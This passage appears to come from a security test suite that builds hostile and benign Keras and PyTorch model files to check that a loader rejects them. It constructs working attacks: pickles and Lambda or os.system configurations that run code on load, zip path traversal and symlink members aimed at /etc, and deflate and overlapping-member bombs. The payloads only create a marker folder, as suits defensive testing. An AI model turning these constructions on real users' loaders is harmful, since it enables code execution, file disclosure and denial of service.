    group["w"] = VICTIM


@hdf5(outcome=HARMLESS, layouts=("tree", "keras"))
def groups_3000_wide(place: Place, is_hostile: bool) -> None:
    """Groups without datasets."""
    place.put()
    for i in range(3000 if is_hostile else 3):
        place.group.create_group(f"g{i}")


# The attributes by which Keras 2 finds weights


def legacy(path: Path, weights: Any = (b"dense/kernel:0", b"dense/bias:0"), layers: Any = (b"dense",),
           edit: Callable[[h5py.File], Patch | None] | None = None) -> None:  # fmt: skip
    """A file of Keras 2 with these attributes; None leaves one out."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        legacy_root(file)
        file["dense/dense/kernel:0"] = GOOD
        file["dense/dense/bias:0"] = VICTIM
        del file.attrs["layer_names"]
        if layers is not None:
            file.attrs["layer_names"] = layers if isinstance(layers, np.ndarray) else list(layers)
        if weights is not None:
            file["dense"].attrs["weight_names"] = weights if isinstance(weights, np.ndarray) else list(weights)
        patch = edit(file) if edit is not None else None
    path.write_bytes(_finish(path, stream, patch))


def weight_names(label: str, hostile: Any, outcome: str = REFUSED, text: str = "weight_names|dense") -> None:
    """Register a file whose second weight is named so."""

    def write(path: Path, is_hostile: bool) -> None:
        def add(file: h5py.File) -> None:
            file["secret"] = OTHER
            file["dense/dense/group/w"] = OTHER

        second = hostile if is_hostile else b"dense/bias:0"
        names = second if isinstance(second, np.ndarray) else (b"dense/kernel:0", second)
        legacy(path, names, edit=add)

    CASES.append(Case(f"weight_names_{label}", ".h5", write, outcome, text))


weight_names("missing", b"dense/gamma:0")
weight_names("upwards", b"../../x")
weight_names("upwards_to_what_exists", b"../secret")
weight_names("absolute", b"/secret")
weight_names("absolute_to_itself", b"/dense/dense/bias:0", EITHER)
weight_names("a_group", b"dense/group")
weight_names("the_layer", b".")
weight_names("dot", b"dense/./bias:0", EITHER)
weight_names("two_slashes", b"dense//bias:0", EITHER)
weight_names("twice", b"dense/kernel:0")
weight_names("nothing", b"")
weight_names("latin_1", b"caf\xe9")
weight_names("numbers", np.arange(3), EITHER)
weight_names("a_number", np.array(3.0), EITHER)
weight_names("table", np.array([[b"dense/kernel:0"], [b"dense/bias:0"]]), EITHER)


def layer_names(label: str, hostile: Any, outcome: str = REFUSED, text: str = "layer_names|layer|twice") -> None:
    """Register a file with these layers."""

    def write(path: Path, is_hostile: bool) -> None:
        legacy(path, layers=hostile if is_hostile else (b"dense",))

    CASES.append(Case(f"layer_names_{label}", ".h5", write, outcome, text))


layer_names("missing", (b"dense", b"conv"))
layer_names("absolute", (b"/dense",), EITHER)
layer_names("root", (b"dense", b"/"))
layer_names("dot", (b"dense", b"."))
layer_names("upwards", (b"dense", b"../dense"))
layer_names("a_dataset", (b"dense", b"dense/dense/bias:0"))
layer_names("twice", (b"dense", b"dense"))
layer_names("numbers", np.arange(3), EITHER)
layer_names("latin_1", (b"dense", b"caf\xe9"))


@whole(".h5", outcome=HARMLESS)
def weight_names_in_parts(path: Path, is_hostile: bool) -> None:
    """Keras splits an attribute that does not fit an object header: weight_names0, weight_names1."""

    def split(file: h5py.File) -> None:
        for i, value in enumerate((b"dense/kernel:0", b"dense/bias:0")):
            file["dense"].attrs[f"weight_names{i}"] = [value]

    legacy(path, None, edit=split) if is_hostile else legacy(path)


@whole(".h5", "layer_names|layer|attribute|bytes")
def layer_names_that_share_a_heap_object(path: Path, is_hostile: bool) -> None:
    """3,500 elements of an attribute that all point at one object of 1 MB: 3.5 GB when they are read."""
    count = 3500

    def edit(file: h5py.File) -> Patch | None:
        names = np.array(["dense"] + [""] * (count - 1), object)
        if is_hostile:
            names[0] = "x" * MIB
        file.attrs.create("layer_names", names if is_hostile else names[:1], dtype=h5py.string_dtype())
        return functools.partial(repeat_heap_object, nbytes=MIB, count=count) if is_hostile else None

    legacy(path, layers=None, edit=edit)


@whole(".h5", "layer|link|external|more")
def layer_that_is_an_external_link(path: Path, is_hostile: bool) -> None:
    """keras #22899: the layer's whole group is in another file."""

    def edit(file: h5py.File) -> None:
        secret = secret_folder(path.parent) / "secret.h5"
        with h5py.File(secret, "w") as other:
            other["more/w"] = SECRET
            other["more"].attrs["weight_names"] = [b"w"]
        if is_hostile:
            file["more"] = h5py.ExternalLink(str(secret), "/more")
        else:
            file.create_group("more").attrs["weight_names"] = np.zeros(0, "S1")

    legacy(path, layers=(b"dense", b"more"), edit=edit)


@whole(".h5", "layer|link|soft|more")
def layer_that_is_a_soft_link(path: Path, is_hostile: bool) -> None:
    """A layer's group under a second name, by a soft link."""

    def edit(file: h5py.File) -> None:
        if is_hostile:
            file["more"] = h5py.SoftLink("/dense")
        else:
            file.create_group("more").attrs["weight_names"] = np.zeros(0, "S1")

    legacy(path, layers=(b"dense", b"more"), edit=edit)


@whole(".h5", outcome=HARMLESS)
def configuration_with_code_h5(path: Path, is_hostile: bool) -> None:
    """CVE-2025-1550, CVE-2025-9905: a Lambda layer's code and a module's name are run by who builds the model."""
    legacy(path, edit=lambda file: file.attrs.update(model_config=json.dumps(code_config(path, is_hostile))))


@whole(".h5", "config|JSON|nested|deep", EITHER)
def configuration_nested_deeply(path: Path, is_hostile: bool) -> None:
    """A JSON text that json.loads answers with RecursionError."""
    depth = 30_000 if is_hostile else 3
    legacy(path, edit=lambda file: file.attrs.update(model_config="[" * depth + "]" * depth))


@whole(".h5", outcome=HARMLESS)
def user_block(path: Path, is_hostile: bool) -> None:
    """HDF5 may begin at byte 512, behind anything."""
    with h5py.File(path, "w", userblock_size=512 if is_hostile else 0) as file:
        file["dense/kernel"], file["dense/bias"] = GOOD, VICTIM
    if is_hostile:
        with open(path, "r+b") as stream:
            stream.write(b"#!/bin/sh\n")


@whole(".h5", outcome=HARMLESS)
def newest_structures(path: Path, is_hostile: bool) -> None:
    """The newer headers, indices and groups of libhdf5."""
    with h5py.File(path, "w", libver="latest" if is_hostile else None) as file:
        file["dense/kernel"] = GOOD
        file.create_dataset("dense/bias", data=VICTIM, chunks=(5,), compression="gzip", maxshape=(None,))
        for i in range(20):
            file.create_dataset(f"dense/other{i}", data=GOOD)


# Archives


CONFIG = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": []}, "registered_name": None}


def weights_file() -> bytes:
    """The ``model.weights.h5`` of the archives below."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file["layers/dense/vars/0"], file["layers/dense/vars/1"] = GOOD, VICTIM
    return stream.getvalue()


def write_archive(path: Path, members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> None:
    """A ``.keras`` archive; members may replace those that every one has, by None to leave them out."""
    every: dict[str, Any] = {
        "metadata.json": json.dumps({"keras_version": "3.15.1", "date_saved": "2026-11-01@00:00:00"}).encode(),
        "config.json": json.dumps(CONFIG).encode(),
        "model.weights.h5": weights_file(),
        **members,
    }
    with zipfile.ZipFile(path, "w", method) as archive:
        for member, data in every.items():
            if data is not None:
                archive.writestr(zipfile.ZipInfo(member), data, method)


def append(path: Path, member: str | zipfile.ZipInfo, data: bytes) -> None:
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(member, data)


def central(data: bytes, member: bytes) -> int:
    """Where the central directory's entry of a member begins."""
    at = data.find(b"PK\x01\x02")
    while data[at + 46 : at + 46 + len(member)] != member:
        at = data.index(b"PK\x01\x02", at + 1)
    return at


def local(data: bytes, member: bytes) -> int:
    """Where the local header of a member begins."""
    return int(struct.unpack_from("<I", data, central(data, member) + 42)[0])


def put(path: Path, *fields: tuple[int, str, int]) -> None:
    data = bytearray(path.read_bytes())
    for at, form, value in fields:
        struct.pack_into(form, data, at, value)
    path.write_bytes(data)


WEIGHTS = b"model.weights.h5"


def extra_member(label: str, member: str, text: str = "name|member") -> None:
    """Register an archive with one more member of this name."""

    def write(path: Path, is_hostile: bool) -> None:
        write_archive(path, {})
        append(path, member if is_hostile else "assets/vocabulary.txt", b"x")

    CASES.append(Case(f"member_{label}", ".keras", write, EITHER, text))


extra_member("upwards", "../evil")
extra_member("upwards_later", "assets/../../evil")
extra_member("absolute", "/tmp/evil")
extra_member("backslash", "..\\evil")
extra_member("drive", "C:evil")
extra_member("control", "a\n\x1b[31m")


@whole(".keras", "twice|two|duplicate|weights")
def member_twice(path: Path, is_hostile: bool) -> None:
    """Two members of one name: one reader takes the first, another the last."""
    write_archive(path, {})
    append(path, "other.txt", weights_file())
    if is_hostile:
        data = path.read_bytes()
        at, first = central(data, b"other.txt"), local(data, b"other.txt")
        entry = data[at : at + 46 + 9].replace(b"other.txt", WEIGHTS)
        entry = entry[:28] + struct.pack("<H", len(WEIGHTS)) + entry[30:]
        header = data[first : first + 30 + 9].replace(b"other.txt", WEIGHTS)
        header = header[:26] + struct.pack("<H", len(WEIGHTS)) + header[28:]
        directory = struct.unpack_from("<I", data, len(data) - 6)[0]
        body = data[:first] + header + data[first + 39 : directory]
        tail = bytearray(data[len(data) - 22 :])
        struct.pack_into("<II", tail, 12, at - directory + len(entry), len(body))
        path.write_bytes(body + data[directory:at] + entry + tail)


@whole(".keras", "symbolic|symlink|link|weights", EITHER)
def member_that_is_a_symlink(path: Path, is_hostile: bool) -> None:
    """keras #22973: an entry that unpacks to a link out of the folder, then a file through it."""
    write_archive(path, {})
    link = zipfile.ZipInfo("assets/link" if is_hostile else "assets/file")
    link.external_attr = (0o120777 if is_hostile else 0o100644) << 16
    link.create_system = 3
    append(path, link, b"/etc")


@whole(".keras", "symbolic|symlink|link|weights|HDF5")
def weights_that_are_a_symlink(path: Path, is_hostile: bool) -> None:
    """keras #23015: the weights are a link to another file of the reader."""
    if not is_hostile:
        write_archive(path, {})
        return
    secret = secret_folder(path.parent) / "secret.h5"
    secret.write_bytes(weights_file())
    write_archive(path, {"model.weights.h5": None})  # type: ignore[dict-item]
    link = zipfile.ZipInfo("model.weights.h5")
    link.external_attr, link.create_system = 0o120777 << 16, 3
    append(path, link, str(secret).encode())


@whole(".keras", "encrypt|decrypt")
def member_encrypted(path: Path, is_hostile: bool) -> None:
    """The flag of encryption on the weights: zipfile asks for a password by RuntimeError."""
    write_archive(path, {})
    data = path.read_bytes()
    put(path, (central(data, WEIGHTS) + 8, "<H", int(is_hostile)), (local(data, WEIGHTS) + 6, "<H", int(is_hostile)))


@whole(".keras", outcome=HARMLESS)
def weights_deflated(path: Path, is_hostile: bool) -> None:
    """Keras stores; others deflate."""
    write_archive(path, {}, zipfile.ZIP_DEFLATED if is_hostile else zipfile.ZIP_STORED)


@whole(".keras", "compress|method|weights", EITHER)
def weights_compressed_otherwise(path: Path, is_hostile: bool) -> None:
    """Other methods of zip, whose decoders have their own limits."""
    write_archive(path, {}, zipfile.ZIP_LZMA if is_hostile else zipfile.ZIP_STORED)


@whole(".keras", "compress|method|weights")
def weights_of_an_unknown_method(path: Path, is_hostile: bool) -> None:
    """A method that zipfile answers with NotImplementedError."""
    write_archive(path, {})
    data = path.read_bytes()
    method = 77 if is_hostile else 0
    put(path, (central(data, WEIGHTS) + 10, "<H", method), (local(data, WEIGHTS) + 8, "<H", method))


@functools.cache
def deflated_behind(head: bytes, n_mib: int) -> tuple[bytes, int, int]:
    """The deflate stream of some bytes and so many MiB of zeros behind them, with its CRC and length."""
    block = bytes(MIB)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    zeros = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # after a full flush all blocks are alike
    checksum = zlib.crc32(head)
    for _ in range(n_mib):
        checksum = zlib.crc32(block, checksum)
    return start + zeros * n_mib + packer.flush(), checksum, len(head) + n_mib * MIB


def inflating_member(path: Path, member: str, head: bytes, is_hostile: bool) -> None:
    """An archive with a member that is these bytes and, in the hostile one, 1.1 GiB of zeros behind them."""
    write_archive(path, {member: b""})
    stream, checksum, length = deflated_behind(head, 1126 if is_hostile else 1)
    data = path.read_bytes()
    at, start, directory = central(data, member.encode()), local(data, member.encode()), data.index(b"PK\x01\x02")
    found = bytearray(data)
    for offset in (start + 8, at + 10):  # method, then after time and date: CRC, both sizes
        struct.pack_into("<H", found, offset, 8)
        struct.pack_into("<III", found, offset + 6, checksum, len(stream), length)
    begin = start + 30 + len(member)
    for other in range(3):  # members behind it move
        entry = [i for i in range(directory, len(data)) if data[i : i + 4] == b"PK\x01\x02"][other]
        offset = struct.unpack_from("<I", data, entry + 42)[0]
        struct.pack_into("<I", found, entry + 42, offset + (len(stream) if offset > start else 0))
    struct.pack_into("<I", found, len(data) - 6, directory + len(stream))
    path.write_bytes(bytes(found[:begin]) + stream + bytes(found[begin:]))


@whole(".keras", "declare|bytes|expand|large|more than|times|budget|limit")
def weights_that_inflate_to_1_GiB(path: Path, is_hostile: bool) -> None:
    """keras #22975: a deflate bomb. A weights file with 1.1 GiB of zeros behind its end."""
    inflating_member(path, "model.weights.h5", weights_file(), is_hostile)


@whole(".keras", "config|declare|bytes|large|more than|limit", EITHER)
def configuration_that_inflates_to_1_GiB(path: Path, is_hostile: bool) -> None:
    """keras #23016: the same in config.json."""
    inflating_member(path, "config.json", json.dumps(CONFIG).encode(), is_hostile)


@whole(".keras", "config|JSON|nested|deep", EITHER)
def configuration_nested_deeply_keras(path: Path, is_hostile: bool) -> None:
    """json.loads raises RecursionError."""
    depth = 100_000 if is_hostile else 3
    write_archive(path, {"config.json": b"[" * depth + b"]" * depth})


@whole(".keras", "weights|bytes|size|damaged")
def size_too_small(path: Path, is_hostile: bool) -> None:
    """The directory says fewer bytes than the stream has."""
    write_archive(path, {}, zipfile.ZIP_DEFLATED)
    _declare(path, len(weights_file()) - 100 * is_hostile)


@whole(".keras", "weights|bytes|size|damaged")
def size_too_large(path: Path, is_hostile: bool) -> None:
    """The directory says more bytes than the stream has."""
    write_archive(path, {}, zipfile.ZIP_DEFLATED)
    _declare(path, len(weights_file()) + 100_000 * is_hostile)


@whole(".keras", "weights|bytes|size|damaged|large|limit|more than")
def size_of_4_GB(path: Path, is_hostile: bool) -> None:
    """A few kB that say they are 4 GB: nothing is allocated for what is only said."""
    write_archive(path, {}, zipfile.ZIP_DEFLATED)
    _declare(path, 0xFFFFFFFE if is_hostile else len(weights_file()))


def _declare(path: Path, size: int) -> None:
    data = path.read_bytes()
    put(path, (central(data, WEIGHTS) + 24, "<I", size), (local(data, WEIGHTS) + 22, "<I", size))


@whole(".keras", "weights|bytes|size|damaged|begin|past|end")
def stored_size_past_the_end(path: Path, is_hostile: bool) -> None:
    """A stored member that would end behind the file's end."""
    write_archive(path, {})
    data = path.read_bytes()
    size = len(weights_file()) + 10**8 * is_hostile
    for at in (central(data, WEIGHTS) + 20, local(data, WEIGHTS) + 18):
        put(path, (at, "<I", size), (at + 4, "<I", size))


@whole(".keras", "CRC|checksum|damaged")
def weights_with_a_wrong_crc(path: Path, is_hostile: bool) -> None:
    """A flipped bit in a value."""
    write_archive(path, {})
    data = bytearray(path.read_bytes())
    data[data.index(VICTIM.tobytes()) + 6] ^= is_hostile
    path.write_bytes(data)


@whole(".keras", "overlap|damaged")
def members_that_overlap(path: Path, is_hostile: bool) -> None:
    """Fifield's bomb: a member whose bytes contain the next one with its header."""
    write_archive(path, {"assets/a": b"abc", "model.weights.h5": None})  # type: ignore[dict-item]
    append(path, "model.weights.h5", weights_file())
    data = path.read_bytes()
    start, begin = local(data, b"assets/a"), local(data, b"assets/a") + 38
    body = data[begin : data.index(b"PK\x01\x02")] if is_hostile else b"abc"
    for at in (central(data, b"assets/a") + 16, start + 14):
        put(path, (at, "<I", zlib.crc32(body)), (at + 4, "<I", len(body)), (at + 8, "<I", len(body)))


@whole(".keras", "name|weights|header|damaged")
def local_name_that_differs(path: Path, is_hostile: bool) -> None:
    """The directory says one name, the header in front of the bytes another."""
    write_archive(path, {})
    data = bytearray(path.read_bytes())
    at = local(data, WEIGHTS) + 30
    data[at : at + len(WEIGHTS)] = b"model.weights.xx" if is_hostile else WEIGHTS
    path.write_bytes(data)


@whole(".keras", "damaged|offset|begin|zip")
def offset_past_the_end(path: Path, is_hostile: bool) -> None:
    """The directory points behind the end of the file."""
    write_archive(path, {})
    data = path.read_bytes()
    if is_hostile:
        put(path, (central(data, WEIGHTS) + 42, "<I", 0x7FFFFFF0))


@whole(".keras", "weights|zip archive of")
def weights_missing(path: Path, is_hostile: bool) -> None:
    """An archive without weights."""
    write_archive(path, {"model.weights.h5": None} if is_hostile else {})  # type: ignore[dict-item]


@whole(".keras", "npz|pickle")
def weights_pickled(path: Path, is_hostile: bool) -> None:
    """Keras can store its weights in an .npz, as pickled objects: loading those runs code."""
    if not is_hostile:
        write_archive(path, {})
        return
    stream = io.BytesIO()
    np.savez(stream, dense=np.array([Attack(path.parent / "ran")], object))
    write_archive(path, {"model.weights.h5": None, "model.weights.npz": stream.getvalue()})  # type: ignore[dict-item]


@whole(".keras", "HDF5|weights")
def weights_that_are_no_hdf5(path: Path, is_hostile: bool) -> None:
    """Anything under the name of the weights."""
    write_archive(path, {"model.weights.h5": b"no HDF5 " * 100} if is_hostile else {})


@whole(".keras", "weights|empty|HDF5")
def weights_that_are_empty(path: Path, is_hostile: bool) -> None:
    """No byte under the name of the weights."""
    write_archive(path, {"model.weights.h5": b""} if is_hostile else {})


@whole(".keras", "no checkpoint|zip", EITHER)
def junk_in_front(path: Path, is_hostile: bool) -> None:
    """A zip file is found from its end: anything may stand in front of it."""
    write_archive(path, {})
    if is_hostile:
        path.write_bytes(b"#!/bin/sh\nexit\n" + path.read_bytes())


@whole(".keras", outcome=HARMLESS)
def zip_comment(path: Path, is_hostile: bool) -> None:
    """A comment that looks like the end of another archive."""
    write_archive(path, {})
    if is_hostile:
        with zipfile.ZipFile(path, "a") as archive:
            archive.comment = b"a comment"


@whole(".keras", outcome=HARMLESS)
def zip64(path: Path, is_hostile: bool) -> None:
    """Sizes of 64 bits, where 32 would do."""
    write_archive(path, {"model.weights.h5": None})  # type: ignore[dict-item]
    with (
        zipfile.ZipFile(path, "a") as archive,
        archive.open("model.weights.h5", "w", force_zip64=is_hostile) as stream,
    ):
        stream.write(weights_file())


@whole(".keras", outcome=HARMLESS)
def configuration_with_code(path: Path, is_hostile: bool) -> None:
    """CVE-2025-1550, CVE-2025-8747, CVE-2026-1462: what config.json names is imported, and its code run."""
    write_archive(path, {"config.json": json.dumps(code_config(path, is_hostile)).encode()})


@whole(".keras", outcome=HARMLESS)
def many_members(path: Path, is_hostile: bool) -> None:
    """3,000 small members."""
    write_archive(path, {f"assets/{i}": b"" for i in range(3000 if is_hostile else 3)})


# Code


class Attack:
    """Pickles to a call that leaves a folder behind."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self.path),)


def code_config(path: Path, is_hostile: bool) -> dict[str, Any]:
    """A model's configuration that runs code in whoever builds the model."""
    if not is_hostile:
        return CONFIG
    folder = str(path.parent / "ran")
    code = compile(f"lambda x: __import__('os').mkdir({folder!r})", "x", "eval").co_consts[0]
    packed = base64.b64encode(marshal.dumps(code)).decode()
    function = {"class_name": "__lambda__", "config": {"code": packed, "defaults": None, "closure": None}}
    layers = [
        {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "dense", "function": function}},
        {"module": "os", "class_name": "system", "config": {"command": f"mkdir {folder}"}, "registered_name": "x>y"},
        {"class_name": "function", "module": "os", "config": "mkdir", "registered_name": "mkdir"},
        {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "t", "filepath": folder}},
    ]
    return {**CONFIG, "config": {"name": "m", "layers": layers}}


def _command(path: Path) -> bytes:
    """A pickle, written by hand, that runs a command."""
    return b"cos\nsystem\n(S'mkdir " + str(path.parent / "ran").encode() + b"'\ntR."


@whole(".pt", "system", package="torch")
def pickle_that_runs_a_command_zip(path: Path, is_hostile: bool) -> None:
    """What torch.load ran before weights_only (CVE-2025-32434 for when it did not help)."""
    import torch

    torch.save({"w": torch.from_numpy(GOOD), "v": torch.from_numpy(VICTIM)}, path)
    if is_hostile:
        with zipfile.ZipFile(path) as archive:
            members = {member: archive.read(member) for member in archive.namelist()}
        with zipfile.ZipFile(path, "w") as archive:
            for member, data in members.items():
                archive.writestr(member, _command(path) if member.endswith("data.pkl") else data)


@whole(".pt", "system", package="torch")
def pickle_that_runs_a_command_legacy(path: Path, is_hostile: bool) -> None:
    """The same in the format of PyTorch before 1.6."""
    import torch

    if not is_hostile:
        state = {"w": torch.from_numpy(GOOD), "v": torch.from_numpy(VICTIM)}
        torch.save(state, path, _use_new_zipfile_serialization=False)
        return
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    head = b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, system))
    path.write_bytes(head + _command(path) + pickle.dumps([], 2))


@whole(".pt", "damaged|UTF-8|utf-8|zip", package="torch")
def legacy_pickle_with_a_zip_behind_it(path: Path, is_hostile: bool) -> None:
    """The file begins as a legacy checkpoint and ends as a zip archive, of which a name is no UTF-8."""
    pickle_that_runs_a_command_legacy(path, False)
    if is_hostile:
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr("name", b"")
        data = path.read_bytes()
        at = central(data, b"name")
        put(path, (at + 8, "<H", 0x800), (at + 46, "<I", 0xFFFFFFFF))


# Models of several files


def shards(label: str, place: Any) -> None:
    """Register the index of a sharded Keras model that places a layer so."""

    def write(path: Path, is_hostile: bool) -> None:
        folder = path.with_suffix(".files")
        folder.mkdir(exist_ok=True)
        for file in (folder / "model_00000.weights.h5", secret_folder(path.parent) / "x.weights.h5"):
            file.write_bytes(weights_file())
        where = str(secret_folder(path.parent) / "x.weights.h5") if place == "ABSOLUTE" else place
        index = {"metadata": {"total_size": 96}, "weight_map": {
            "/layers/dense/vars": where if is_hostile else ["model_00000.weights.h5"]}}  # fmt: skip
        path.write_text(json.dumps(index))
        (path.parent / "model_00000.weights.h5").write_bytes(weights_file())

    CASES.append(Case(f"shards_{label}", ".weights.json", write, REFUSED, "weights"))


shards("upwards", ["../x.weights.h5"])
shards("in_a_folder", ["secret/x.weights.h5"])
shards("absolute", "ABSOLUTE")
shards("missing", ["y.weights.h5"])
shards("backslash", ["secret\\x.weights.h5"])
